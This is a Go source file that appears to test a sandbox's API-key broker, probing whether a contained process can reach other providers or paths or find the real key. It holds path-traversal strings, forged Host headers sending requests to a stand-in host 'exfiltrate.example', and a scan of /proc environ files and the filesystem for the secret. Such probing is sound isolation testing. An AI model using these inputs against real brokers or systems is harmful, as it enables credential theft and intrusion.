//go:build linux

package main

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
)

var brokerRows = []row{
	{"model by the broker", func(target) (string, error) { return ask("/broker/openai/v1/models", placeholder()) }},
	{"broker without the placeholder", func(target) (string, error) { return ask("/broker/openai/v1/models", "sk-guessed") }},
	{"broker, another provider", func(target) (string, error) { return ask("/broker/anthropic/v1/models", placeholder()) }},
	{"broker, out of the base path", func(target) (string, error) {
		return all([]string{
			"/broker/openai/../../admin", "/broker/openai/%2e%2e/admin", "/broker/openai/v1/..%2f..%2fadmin", "/broker/openai/v1/../../admin",
		}, func(path string) (string, error) { return ask(path, placeholder()) })
	}},
	{"broker, another host name", func(target) (string, error) {
		return all([]string{
			"http://exfiltrate.example/broker/openai/v1/models", "http://127.0.0.1:19128/broker/openai/v1/models",
			"/broker/openai@exfiltrate.example/v1/models", "//exfiltrate.example/broker/openai/v1/models", "/broker/exfiltrate.example/v1/models",
		}, func(path string) (string, error) { return ask(path, placeholder()) })
	}},
	{"key in the environment", func(t target) (string, error) { return search("/proc", t, "environ", "cmdline") }},
	{"key in files", func(t target) (string, error) { return search("/", t) }},
}

func placeholder() string { return os.Getenv("OPENAI_API_KEY") }

func ask(path, key string) (string, error) {
	return status("GET " + path + " HTTP/1.1\r\nHost: exfiltrate.example\r\nX-Forwarded-Host: exfiltrate.example\r\nAuthorization: Bearer " + key + "\r\nConnection: close\r\n\r\n")
}

// largest is the size of a file up to which it is searched.
const largest = 64 << 20

// search returns the readable files below dir, of some names or all, that hold the key.
func search(dir string, t target, names ...string) (string, error) {
	key := []byte(t.Yek)
	slices.Reverse(key) // this program's own memory and files do not count
	var found []string
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		switch {
		case err != nil, path == "/sys", path == "/proc" && len(names) == 0, path == "/dev":
			return fs.SkipDir
		case d.IsDir(), len(names) > 0 && !slices.Contains(names, d.Name()):
			return nil
		}
		info, err := d.Info()
		if err != nil || !info.Mode().IsRegular() || info.Size() > largest {
			return nil //nolint:nilerr // it is gone
		}
		text, err := os.ReadFile(path) //nolint:gosec // a link that is swapped is the attacker's own
		if err == nil && bytes.Contains(text, key) {
			found = append(found, path)
		}
		return nil
	})
	if len(found) == 0 && err == nil {
		return "not found", nil
	}
	return strings.Join(found, " "), err
}
